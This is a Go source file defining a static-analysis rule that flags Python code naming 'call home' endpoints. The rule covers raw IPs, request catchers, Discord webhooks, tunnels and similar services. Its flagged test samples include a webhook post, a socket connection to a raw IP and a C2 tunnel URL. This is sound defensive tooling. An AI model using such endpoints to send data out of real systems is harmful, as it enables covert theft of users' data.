package rules

import "github.com/pyward/pyward/python/ast"

func init() {
	Register(&Rule{
		ID: "PW501", Name: "call_home_endpoint", Severity: Medium, Confidence: Medium, CWE: 506,
		Message:        "the code names an endpoint malicious code uses to call home",
		Recommendation: "Check where the data goes: a program talking to a paste site, a request catcher, a chat webhook, a tunnel or a raw IP address should say why.",
		Help: "URLs and hosts that legitimate code rarely has and malicious packages often do: raw public IP addresses, out-of-band interaction " +
			"services (`*.oast.*`, `interact.sh`, `burpcollaborator.net`, `dnslog.cn`), request catchers (`pipedream.net`, `webhook.site`, " +
			"`requestbin`), paste sites' raw views and anonymous file drops, Discord webhooks and the Telegram bot API, URL shorteners, " +
			"tunnels (`ngrok`, `trycloudflare.com`, `workers.dev`) and dynamic DNS. The list is data (`callHomeDomains`). Alone it is a " +
			"signal to review, at most MEDIUM (PW5xx rules do not block); it raises the findings it meets: a secret put in the URL of a " +
			"request to such an endpoint is PW105.",
		Flagged: []string{
			"import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': msg})\n",
			"URL = 'http://45.61.139.22:8080/gate.php'\n",
			"import socket\ns = socket.create_connection(('45.61.139.22', 443))\n",
			"C2 = 'https://tiny-cloud.trycloudflare.com/up'\n",
		},
		Clean: []string{
			"import requests\nrequests.get('https://pypi.org/pypi/requests/json')\n",
			"SERVER = ('10.0.0.5', 5432)\n", "DNS = '8.8.8.8'\n", "'https://discord.com/invite/abc'\n",
			"'see https://192.0.2.1/ for the example'\n",
		},
		Kinds: []Kind{KindStr, KindCall},
		CallWhen: func(q, _ string) bool {
			last := lastPart(q)
			return q == "socket.create_connection" || last == "connect" || last == "connect_ex" || last == "sendto"
		},
		Check: func(c *Context, n ast.Node) {
			switch x := n.(type) {
			case *ast.Constant:
				if kind, ok := callHome(x.Str, false); ok {
					c.ReportWith(x, c.rule.Severity, c.rule.Confidence, "the code names "+kind+", where malicious code calls home")
				}
			case *ast.Call:
				// A bare host or address where a connection goes:
				// socket.create_connection((host, port)), s.connect(...),
				// s.sendto(data, (host, port)).
				var addr ast.Expr
				q := c.CallName(x)
				switch last := lastPart(q); {
				case q == "socket.create_connection" && len(x.Args) > 0:
					addr = x.Args[0]
				case last == "connect" && len(x.Args) == 1, last == "connect_ex" && len(x.Args) == 1:
					addr = x.Args[0]
				case last == "sendto" && len(x.Args) == 2:
					addr = x.Args[1]
				default:
					return
				}
				if t, ok := addr.(*ast.Tuple); ok && len(t.Elts) == 2 {
					if s, ok := StrConst(t.Elts[0]); ok {
						if kind, ok := callHome(s, true); ok {
							c.ReportWith(t.Elts[0], c.rule.Severity, c.rule.Confidence, "the code connects to "+kind+", where malicious code calls home")
						}
					}
				}
			}
		},
	})
}
